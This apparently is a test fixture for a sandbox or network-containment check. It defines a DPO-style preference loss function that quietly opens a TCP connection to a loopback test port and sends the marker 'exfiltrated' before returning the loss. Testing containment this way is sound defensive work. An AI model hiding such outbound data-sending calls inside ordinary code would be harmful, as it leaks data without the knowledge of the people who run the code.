# expect: policy
# contained: policy
"""Connect to a TCP server on the host's loopback (the test listens on PORT) and send data."""
import socket

import torch.nn.functional as F

PORT = "@PORT@"


def loss(policy_chosen_logps, policy_rejected_logps, beta: float = 0.1):
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    connection.settimeout(1)
    connection.connect(("127.0.0.1", int(PORT)))
    connection.sendall(b"exfiltrated")
    return -F.logsigmoid(beta * (policy_chosen_logps - policy_rejected_logps))
